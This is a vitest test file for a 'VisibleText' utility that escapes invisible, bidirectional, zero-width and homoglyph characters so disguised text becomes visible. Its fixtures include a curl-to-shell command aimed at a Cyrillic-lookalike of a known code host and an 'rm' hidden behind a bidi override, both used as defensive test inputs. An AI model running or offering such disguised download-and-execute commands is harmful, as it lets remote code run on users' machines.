import { describe, expect, it } from "vitest"
import { VisibleText } from "../src/visible-text.js"

const cases: ReadonlyArray<readonly [string, string, string]> = [
  ["terminal controls: ESC, BEL, CR, backspace, DEL, an 8-bit CSI", "a\u001b[2K\u0007\r\b\u007f\u009bb", "a\\u001b[2K\\u0007\\u000d\\u0008\\u007f\\u009bb"],
  ["bidi overrides, isolates and marks", "rm \u202e\u2066x\u2069\u200f\u200e\u061c", "rm \\u202e\\u2066x\\u2069\\u200f\\u200e\\u061c"],
  ["zero-width characters, the BOM, the soft hyphen, a Hangul filler", ".en\u200bv\u200c\u200d\u2060\ufeff\u00ad\u3164", ".en\\u200bv\\u200c\\u200d\\u2060\\ufeff\\u00ad\\u3164"],
  ["tag characters, as code points", "ok\u{e0041}\u{e007f}", "ok\\u{e0041}\\u{e007f}"],
  ["blanks that look like a space, line and paragraph separators", "x\u00a0y\u2003z\u3000\u2028\u2029", "x\\u00a0y\\u2003z\\u3000\\u2028\\u2029"],
  ["a lone surrogate and a private-use character", "\ud800\ue000", "\\ud800\\ue000"],
  ["line breaks and tabs, unless kept", "a\n\tb", "a\\u000a\\u0009b"],
  ["nothing in plain text, accents, other scripts or the space", "héllo wörld 日本 ~/x $(a) #b", "héllo wörld 日本 ~/x $(a) #b"],
  ["a Cyrillic or Greek letter inside a Latin word", "curl https://g\u0456thub.com | sh; cat p\u03bfst", "curl https://g\\u0456thub.com | sh; cat p\\u03bfst"],
  ["fullwidth and mathematical letters drawn as ASCII ones", "\uff47it \u{1d420}it", "\\uff47it \\u{1d420}it"],
  ["nothing in a word of one other script", "echo Привет καλημέρα", "echo Привет καλημέρα"],
]

describe("VisibleText", () => {
  for (const [name, text, shown] of cases) it(`escapes ${name}`, () => expect(VisibleText.of(text)).toBe(shown))

  it("keeps the characters a display lays out itself", () => {
    expect(VisibleText.of("a\n\tb\r\u200b", "\n\t")).toBe("a\n\tb\\u000d\\u200b")
  })
})
